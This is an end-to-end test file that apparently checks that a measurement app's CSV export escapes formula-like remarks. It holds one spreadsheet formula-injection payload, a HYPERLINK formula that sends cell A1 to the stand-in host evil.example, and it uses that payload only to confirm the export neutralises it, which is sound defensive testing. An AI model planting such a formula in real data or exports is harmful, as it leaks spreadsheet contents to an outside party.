import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { MeasureRound } from '../../schemas/api';
import { api, serverAndBrowser, watchErrors } from './harness';

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")';

describe('CSV export', () => {
  const env = serverAndBrowser('e2e-csv-export-');

  it('writes a formula-like remark as text, never as a live formula', async () => {
    const server = env.server();
    const round = await api<MeasureRound>(server, '/measure-round/1');
    const entry = round.entries.find((e) => e.tsParameter === 'W');
    if (!entry) throw new Error('no W entry');
    // a remark someone typed on an earlier round, as the server hands it out with the history
    const dt = new Date(Date.now() - 86_400_000).toISOString();
    const body = {
      instanceId: randomUUID(),
      creationTime: new Date().toISOString(),
      entries: [
        {
          staNumber: entry.staNumber,
          tsId: entry.tsId,
          tsParameter: entry.tsParameter,
          dt,
          value: entry.tsPlausibilityCheck?.min ?? 1,
          tsRemark: { text: FORMULA },
        },
      ],
    };
    const res = await fetch(`${server.url}/hwe-api/v2/measure-round/1`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });
    expect(res.ok).toBe(true);

    const context = await env.browser().newContext({ locale: 'de-DE', acceptDownloads: true });
    const page = await context.newPage();
    const errors = watchErrors(page);
    await page.goto(`${server.url}/analysis/table/${encodeURIComponent(round.mrName)}`);
    await page.getByTestId('history-table').waitFor({ timeout: 30_000 });
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'CSV exportieren' }).click(),
    ]);
    const text = readFileSync((await download.path()) ?? '', 'utf8');
    const line = text.split('\r\n').find((l) => l.includes('HYPERLINK'));
    // the cell starts with a quote character inside the CSV quotes: a spreadsheet shows it as text
    expect(line).toContain(`;"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Details"")"`);
    expect(text).not.toMatch(/(^|;)"?=HYPERLINK/m);
    expect(errors).toEqual([]);
    await context.close();
  });
});
